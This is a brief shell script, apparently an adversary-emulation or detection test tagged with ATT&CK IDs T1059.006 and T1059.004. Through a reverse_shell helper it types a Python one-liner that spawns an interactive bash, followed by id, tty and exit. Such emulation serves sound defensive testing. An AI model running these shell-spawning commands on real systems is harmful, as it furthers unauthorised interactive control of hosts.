# os.system starts an interactive bash (through sh -c); no terminal.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import os; os.system("/bin/bash -i")'
id
tty
exit
exit
TYPED
